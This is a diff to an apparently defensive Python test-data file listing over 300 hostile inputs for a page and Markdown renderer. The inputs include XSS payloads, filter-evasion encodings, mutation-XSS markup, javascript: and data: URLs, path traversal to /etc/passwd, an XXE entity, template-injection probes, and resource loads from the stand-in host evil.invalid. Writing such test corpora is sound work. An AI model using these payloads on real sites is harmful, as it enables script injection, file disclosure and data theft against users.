@@ -1,46 +1,43 @@
-"""300 texts as somebody would write them who wants a page to run, to load, to lie or to break.
+"""More than 300 texts as somebody would write them who wants a page to run, to load, to lie or to break.
 
 `pwned()` is the canary that observe.js counts; `evil.invalid` is a host that nothing may ask for.
 """
 
 from __future__ import annotations
 
-_RUN = "pwned()"
-_HOST = "evil.invalid"
-
 # Elements that run something by themselves.
 _ELEMENTS = [
-    f"<script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>", f"<script >{_RUN}</script >", f"<script\n>{_RUN}</script\n>",
-    f"<script src=//{_HOST}/x.js></script>", f"<script src=https://{_HOST}/x.js></script>",
-    rf"<script src=\\{_HOST}\share\x.js></script>", "<script src=file:///tmp/x.js></script>",
-    f"<script type=module>{_RUN}</script>", f"<script type='text/javascript'>{_RUN}", f"<script>{_RUN}//",
-    f"</script><script>{_RUN}</script>", f"</title><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>",
-    f"</style><script>{_RUN}</script>", f"</noscript><script>{_RUN}</script>", f"--><script>{_RUN}</script>",
-    f"]]><script>{_RUN}</script>", f"'\"><script>{_RUN}</script>", f"`><script>{_RUN}</script>",
-    f"<<script>{_RUN}//<</script>", f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"<script/x>{_RUN}</script>",
-    f"<script\x0c>{_RUN}</script>", f"<script\t>{_RUN}</script>", f"&lt;script&gt;{_RUN}&lt;/script&gt;",
-    f"&#60;script&#62;{_RUN}&#60;/script&#62;", f"\\<script\\>{_RUN}\\</script\\>", f"＜script＞{_RUN}＜/script＞",
-    f"<svg><script>{_RUN}</script></svg>", f"<svg><script href=data:,{_RUN} /></svg>",
-    f"<math><script>{_RUN}</script></math>", f"<template><script>{_RUN}</script></template>",
-    f"<iframe src=javascript:{_RUN}></iframe>", f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
-    f"<iframe src=//{_HOST}/></iframe>", "<iframe src=file:///etc/passwd></iframe>",
-    f"<object data=javascript:{_RUN}></object>", f"<object data=//{_HOST}/x.swf></object>",
-    f"<embed src=javascript:{_RUN}>", f"<embed src=//{_HOST}/x>", f"<applet code=//{_HOST}/x></applet>",
-    f"<frameset><frame src=javascript:{_RUN}></frameset>", f"<portal src=https://{_HOST}></portal>",
-    f"<base href=https://{_HOST}/>", rf"<base href=\\{_HOST}\share\>", "<base target=_blank>",
-    f"<meta http-equiv=refresh content='0;url=https://{_HOST}/'>", f"<meta http-equiv=refresh content='0;javascript:{_RUN}'>",
-    f"<meta http-equiv=Set-Cookie content=x>", f"<meta http-equiv=Content-Security-Policy content=''>",
-    f"<link rel=stylesheet href=https://{_HOST}/x.css>", f"<link rel=import href=//{_HOST}/x>",
-    f"<link rel=prefetch href=https://{_HOST}/x>", f"<link rel=icon href=//{_HOST}/x.ico>",
-    f"<form action=https://{_HOST}/><input name=a><button>x</button></form>", f"<form action=javascript:{_RUN}><button>x</form>",
-    f"<button formaction=javascript:{_RUN}>x</button>", f"<isindex action=javascript:{_RUN}>", f"<input type=image src=//{_HOST}/x>",
-    f"<keygen autofocus onfocus={_RUN}>", "<dialog open>x</dialog>", "<plaintext>", "<xmp>", "<listing>", "<!--", "<![CDATA[",
+    "<script>pwned()</script>", "<ScRiPt>pwned()</sCrIpT>", "<script >pwned()</script >", "<script\n>pwned()</script\n>",
+    "<script src=//evil.invalid/x.js></script>", "<script src=https://evil.invalid/x.js></script>",
+    r"<script src=\\evil.invalid\share\x.js></script>", "<script src=file:///tmp/x.js></script>",
+    "<script type=module>pwned()</script>", "<script type='text/javascript'>pwned()", "<script>pwned()//",
+    "</script><script>pwned()</script>", "</title><script>pwned()</script>", "</textarea><script>pwned()</script>",
+    "</style><script>pwned()</script>", "</noscript><script>pwned()</script>", "--><script>pwned()</script>",
+    "]]><script>pwned()</script>", "'\"><script>pwned()</script>", "`><script>pwned()</script>",
+    "<<script>pwned()//<</script>", "<scr<script>ipt>pwned()</scr</script>ipt>", "<script/x>pwned()</script>",
+    "<script\x0c>pwned()</script>", "<script\t>pwned()</script>", "&lt;script&gt;pwned()&lt;/script&gt;",
+    "&#60;script&#62;pwned()&#60;/script&#62;", "\\<script\\>pwned()\\</script\\>", "＜script＞pwned()＜/script＞",
+    "<svg><script>pwned()</script></svg>", "<svg><script href=data:,pwned() /></svg>",
+    "<math><script>pwned()</script></math>", "<template><script>pwned()</script></template>",
+    "<iframe src=javascript:pwned()></iframe>", "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
+    "<iframe src=//evil.invalid/></iframe>", "<iframe src=file:///etc/passwd></iframe>",
+    "<object data=javascript:pwned()></object>", "<object data=//evil.invalid/x.swf></object>",
+    "<embed src=javascript:pwned()>", "<embed src=//evil.invalid/x>", "<applet code=//evil.invalid/x></applet>",
+    "<frameset><frame src=javascript:pwned()></frameset>", "<portal src=https://evil.invalid></portal>",
+    "<base href=https://evil.invalid/>", r"<base href=\\evil.invalid\share\>", "<base target=_blank>",
+    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>", "<meta http-equiv=refresh content='0;javascript:pwned()'>",
+    "<meta http-equiv=Set-Cookie content=x>", "<meta http-equiv=Content-Security-Policy content=''>",
+    "<link rel=stylesheet href=https://evil.invalid/x.css>", "<link rel=import href=//evil.invalid/x>",
+    "<link rel=prefetch href=https://evil.invalid/x>", "<link rel=icon href=//evil.invalid/x.ico>",
+    "<form action=https://evil.invalid/><input name=a><button>x</button></form>", "<form action=javascript:pwned()><button>x</form>",
+    "<button formaction=javascript:pwned()>x</button>", "<isindex action=javascript:pwned()>", "<input type=image src=//evil.invalid/x>",
+    "<keygen autofocus onfocus=pwned()>", "<dialog open>x</dialog>", "<plaintext>", "<xmp>", "<listing>", "<!--", "<![CDATA[",
     "<?php echo 1 ?>", "<%= 1 %>", "<!doctype x>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
 ]  # fmt: skip
 
 # Event handlers.
 _HANDLERS = [
-    f"<{element} {event}={_RUN}>"
+    f"<{element} {event}=pwned()>"
     for element, event in [
         ("img src=x", "onerror"), ("img src=x:", "OnErRoR"), ("img/src=x", "onerror"), ("image src=x", "onerror"),
         ("svg", "onload"), ("svg/", "onload"), ("body", "onload"), ("body", "onpageshow"), ("body", "onhashchange"),
@@ -54,26 +51,26 @@ _HANDLERS = [
     ]
 ]  # fmt: skip
 _HANDLERS += [
-    f"<img src='x'onerror='{_RUN}'>", f"<img src=x onerror\x09=\x09{_RUN}>", f"<img src=x\x0aonerror\x0a=\x0a{_RUN}>",
-    f"<img src=x onerror=&#112;wned()>", f"<img src=`x`onerror={_RUN}>", f'<img """><img src=x onerror={_RUN}>">',
-    f'" onmouseover="{_RUN}', f"' onmouseover='{_RUN}", f'" autofocus onfocus="{_RUN}', f"x\" onload={_RUN} x=\"",
-    f'"><img src=x onerror={_RUN}>', f"'><img src=x onerror={_RUN}>", f'&quot;&gt;&lt;img src=x onerror={_RUN}&gt;',
-    f"</p></div></article><img src=x onerror={_RUN}>", f"</a><img src=x onerror={_RUN}>", f"</option></select><img src=x onerror={_RUN}>",
+    "<img src='x'onerror='pwned()'>", "<img src=x onerror\x09=\x09pwned()>", "<img src=x\x0aonerror\x0a=\x0apwned()>",
+    "<img src=x onerror=&#112;wned()>", "<img src=`x`onerror=pwned()>", '<img """><img src=x onerror=pwned()>">',
+    '" onmouseover="pwned()', "' onmouseover='pwned()", '" autofocus onfocus="pwned()', "x\" onload=pwned() x=\"",
+    '"><img src=x onerror=pwned()>', "'><img src=x onerror=pwned()>", '&quot;&gt;&lt;img src=x onerror=pwned()&gt;',
+    "</p></div></article><img src=x onerror=pwned()>", "</a><img src=x onerror=pwned()>", "</option></select><img src=x onerror=pwned()>",
 ]  # fmt: skip
 
 # Addresses, each as a link and as a picture, in Markdown and in HTML.
 _ADDRESSES = [
-    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"  javascript:{_RUN}", f"java\tscript:{_RUN}", f"java&#10;script:{_RUN}",
-    f"java&Tab;script:{_RUN}", f"&#106;avascript:{_RUN}", f"&#x6A;avascript&colon;{_RUN}", f"\x01javascript:{_RUN}",
-    f"javascript&#58;{_RUN}", f"javascript://%0a{_RUN}", f"vbscript:{_RUN}", f"data:text/html,<script>{_RUN}</script>",
-    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+", f"data:image/svg+xml,<svg onload={_RUN}>", "blob:null/x",
-    "file:///etc/passwd", f"file://{_HOST}/share/x", "FILE:///C:/Windows/win.ini", "C:/Windows/win.ini", "/etc/passwd",
-    "/C:/Windows/win.ini", f"//{_HOST}/x.png", f"///{_HOST}/x.png", rf"\\{_HOST}\share\x.png", rf"/\{_HOST}/x.png",
-    rf"\/{_HOST}/x.png", f"/&#9;/{_HOST}/x.png", f"/&#10;/{_HOST}/x.png", f"&#47;&#47;{_HOST}/x.png", f"%5C%5C{_HOST}%5Cx",
+    "javascript:pwned()", "JaVaScRiPt:pwned()", "  javascript:pwned()", "java\tscript:pwned()", "java&#10;script:pwned()",
+    "java&Tab;script:pwned()", "&#106;avascript:pwned()", "&#x6A;avascript&colon;pwned()", "\x01javascript:pwned()",
+    "javascript&#58;pwned()", "javascript://%0apwned()", "vbscript:pwned()", "data:text/html,<script>pwned()</script>",
+    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+", "data:image/svg+xml,<svg onload=pwned()>", "blob:null/x",
+    "file:///etc/passwd", "file://evil.invalid/share/x", "FILE:///C:/Windows/win.ini", "C:/Windows/win.ini", "/etc/passwd",
+    "/C:/Windows/win.ini", "//evil.invalid/x.png", "///evil.invalid/x.png", r"\\evil.invalid\share\x.png", r"/\evil.invalid/x.png",
+    r"\/evil.invalid/x.png", "/&#9;/evil.invalid/x.png", "/&#10;/evil.invalid/x.png", "&#47;&#47;evil.invalid/x.png", "%5C%5Cevil.invalid%5Cx",
     "../../../../../../etc/passwd", "..%2f..%2f..%2fetc/passwd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd", "a/../../../../x",
-    rf"..\..\..\x", f"https://{_HOST}/x.png", f"http:{_HOST}/x.png", f"https:\\\\{_HOST}/x.png", f"ftp://{_HOST}/x",
-    f"view-source:https://{_HOST}", f"ms-word:ofe|u|https://{_HOST}/x.doc", "search-ms:query=x", f"intent://{_HOST}#Intent;end",
-    f"about:blank", "chrome://settings", f"feed:javascript:{_RUN}", f"mhtml:file://{_HOST}/x",
+    r"..\..\..\x", "https://evil.invalid/x.png", "http:evil.invalid/x.png", "https:\\\\evil.invalid/x.png", "ftp://evil.invalid/x",
+    "view-source:https://evil.invalid", "ms-word:ofe|u|https://evil.invalid/x.doc", "search-ms:query=x", "intent://evil.invalid#Intent;end",
+    "about:blank", "chrome://settings", "feed:javascript:pwned()", "mhtml:file://evil.invalid/x",
 ]  # fmt: skip
 _LINKS = [
     text
@@ -86,43 +83,43 @@ _LINKS = [
 ]
 _LINKS += [f"[点][{n}]\n\n[{n}]: <{address}>" for n, address in enumerate(_ADDRESSES[:12])]
 _LINKS += [
-    f"<javascript:{_RUN}>", f"<https://{_HOST}/>", f"https://{_HOST}/看", f"[a](<javascript:{_RUN}>)", f'[a](x "\\" onclick={_RUN} x=")',
-    f"[a](x '><img src=x onerror={_RUN}>')", f"![a\" onerror={_RUN} x=\"](x)", f"[![a](x)](javascript:{_RUN})", f"[a](javascript:{_RUN}\n)",
-    f"[x](x){{: onclick={_RUN} }}", f"# 题 {{: onmouseover={_RUN} }}", f"标题 {{#x onclick={_RUN}}}", f"脚注[^1]\n\n[^1]: <img src=x onerror={_RUN}>",
-    f"*[字]: <script>{_RUN}</script>\n\n字", f"```html\n<script>{_RUN}</script>\n```", f"    <script>{_RUN}</script>", f"`<script>{_RUN}</script>`",
-    f"| a | b |\n|---|---|\n| <script>{_RUN}</script> | x |", f"> <script>{_RUN}</script>", f"- <script>{_RUN}</script>",
-    f"!!! note\n    <script>{_RUN}</script>", f"--8<-- 'file:///etc/passwd'", f"[TOC]", f"[[x]]", f"::: x\n<script>{_RUN}</script>",
+    "<javascript:pwned()>", "<https://evil.invalid/>", "https://evil.invalid/看", "[a](<javascript:pwned()>)", '[a](x "\\" onclick=pwned() x=")',
+    "[a](x '><img src=x onerror=pwned()>')", "![a\" onerror=pwned() x=\"](x)", "[![a](x)](javascript:pwned())", "[a](javascript:pwned()\n)",
+    "[x](x){: onclick=pwned() }", "# 题 {: onmouseover=pwned() }", "标题 {#x onclick=pwned()}", "脚注[^1]\n\n[^1]: <img src=x onerror=pwned()>",
+    "*[字]: <script>pwned()</script>\n\n字", "```html\n<script>pwned()</script>\n```", "    <script>pwned()</script>", "`<script>pwned()</script>`",
+    "| a | b |\n|---|---|\n| <script>pwned()</script> | x |", "> <script>pwned()</script>", "- <script>pwned()</script>",
+    "!!! note\n    <script>pwned()</script>", "--8<-- 'file:///etc/passwd'", "[TOC]", "[[x]]", "::: x\n<script>pwned()</script>",
 ]  # fmt: skip
 
 # Styles and pictures that ask for something.
 _STYLES = [
-    f"<style>*{{background:url(//{_HOST}/x)}}</style>", f"<style>@import '//{_HOST}/x.css';</style>",
-    f"<p style='background:url(//{_HOST}/x)'>x</p>", f"<p style=\"background:url('javascript:{_RUN}')\">x</p>",
-    f"<p style='width:expression({_RUN})'>x</p>", f"<p style='-moz-binding:url(//{_HOST}/x)'>x</p>",
-    f"<p style='position:fixed;inset:0;background:#fff;z-index:9999'>盖住</p>", f"<font color=red size=99>大</font>",
-    f"<img srcset='//{_HOST}/x 1x'>", f"<picture><source srcset=//{_HOST}/x><img src=x></picture>", f"<img src=//{_HOST}/x>",
-    f"<img lowsrc=//{_HOST}/x dynsrc=//{_HOST}/y>", f"<video poster=//{_HOST}/x></video>", f"<video src=//{_HOST}/x autoplay></video>",
-    f"<audio src=//{_HOST}/x autoplay></audio>", f"<track src=//{_HOST}/x>", f"<table background=//{_HOST}/x><td>x</table>",
-    f"<svg><image href=//{_HOST}/x /></svg>", f"<svg><use href=//{_HOST}/x#y /></svg>", f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
-    f"<a href=x ping=//{_HOST}/>x</a>", f"<a href=x target=_top download>x</a>", f"<body background=//{_HOST}/x>",
-    f"<svg><foreignObject><iframe src=javascript:{_RUN}></iframe></foreignObject></svg>",
+    "<style>*{background:url(//evil.invalid/x)}</style>", "<style>@import '//evil.invalid/x.css';</style>",
+    "<p style='background:url(//evil.invalid/x)'>x</p>", "<p style=\"background:url('javascript:pwned()')\">x</p>",
+    "<p style='width:expression(pwned())'>x</p>", "<p style='-moz-binding:url(//evil.invalid/x)'>x</p>",
+    "<p style='position:fixed;inset:0;background:#fff;z-index:9999'>盖住</p>", "<font color=red size=99>大</font>",
+    "<img srcset='//evil.invalid/x 1x'>", "<picture><source srcset=//evil.invalid/x><img src=x></picture>", "<img src=//evil.invalid/x>",
+    "<img lowsrc=//evil.invalid/x dynsrc=//evil.invalid/y>", "<video poster=//evil.invalid/x></video>", "<video src=//evil.invalid/x autoplay></video>",
+    "<audio src=//evil.invalid/x autoplay></audio>", "<track src=//evil.invalid/x>", "<table background=//evil.invalid/x><td>x</table>",
+    "<svg><image href=//evil.invalid/x /></svg>", "<svg><use href=//evil.invalid/x#y /></svg>", "<svg><a xlink:href=javascript:pwned()><text>x</text></a></svg>",
+    "<a href=x ping=//evil.invalid/>x</a>", "<a href=x target=_top download>x</a>", "<body background=//evil.invalid/x>",
+    "<svg><foreignObject><iframe src=javascript:pwned()></iframe></foreignObject></svg>",
 ]  # fmt: skip
 
 # Markup that changes when it is parsed a second time.
 _MUTATIONS = [
-    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>", f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
-    f"<svg></p><style><a id='</style><img src=x onerror={_RUN}>'>", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
-    f"<math><annotation-xml encoding=text/html><style><img src=x onerror={_RUN}></style>", f"<svg><title><style><img src=x onerror={_RUN}>",
-    f"<listing>&lt;img src=x onerror={_RUN}&gt;</listing>", f"<p title=\"`\"onerror=\"{_RUN}\">x", f"<table><tr><td></table><img src=x onerror={_RUN}>",
-    f"<select><style></select><img src=x onerror={_RUN}></style>", f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'>",
-    f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->", f"<!--><img src=x onerror={_RUN}>-->", f"<!--!><img src=x onerror={_RUN}>-->",
-    f"<a href='x'>代办<img alt='<x' src='y' title='> 代办 <img src=x onerror={_RUN}>'></a>", f"a&NewLine;b&lpar;&#0;&#xD800;&#x110000;",
+    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>", "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
+    "<svg></p><style><a id='</style><img src=x onerror=pwned()>'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
+    "<math><annotation-xml encoding=text/html><style><img src=x onerror=pwned()></style>", "<svg><title><style><img src=x onerror=pwned()>",
+    "<listing>&lt;img src=x onerror=pwned()&gt;</listing>", "<p title=\"`\"onerror=\"pwned()\">x", "<table><tr><td></table><img src=x onerror=pwned()>",
+    "<select><style></select><img src=x onerror=pwned()></style>", "<xmp><p title='</xmp><img src=x onerror=pwned()>'>",
+    "<!--[if gte IE 4]><script>pwned()</script><![endif]-->", "<!--><img src=x onerror=pwned()>-->", "<!--!><img src=x onerror=pwned()>-->",
+    "<a href='x'>代办<img alt='<x' src='y' title='> 代办 <img src=x onerror=pwned()>'></a>", "a&NewLine;b&lpar;&#0;&#xD800;&#x110000;",
 ]  # fmt: skip
 
 # The program's own marks, and templates of every kind.
 _MARKS = [
     "@@anliku:body@@", "@@anliku:csp@@", "@@anliku:scripts@@", "@@anliku:head@@", "@@anliku:title@@", "@@policy@@", "@@library@@",
-    "<!--anliku:intro-->", f"<!--/anliku:intro--><script>{_RUN}</script>", "<!--include:verify.css-->", "{{ site.name }}",
+    "<!--anliku:intro-->", "<!--/anliku:intro--><script>pwned()</script>", "<!--include:verify.css-->", "{{ site.name }}",
     "{{ config }}", "{{ 7*7 }}", "{% include 'x' %}", "{% raw %}", "{# x #}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}",
     "<%= 7*7 %>", "%s %d %n {0} {x}", "$x$", "#set page(width: 1pt)", "#include \"/etc/passwd\"", "#eval(\"1\")", "#image(\"/etc/passwd\")",
     "`#raw`", "*x* _y_ $z$ <lab> @ref", "\\#let x = 1",
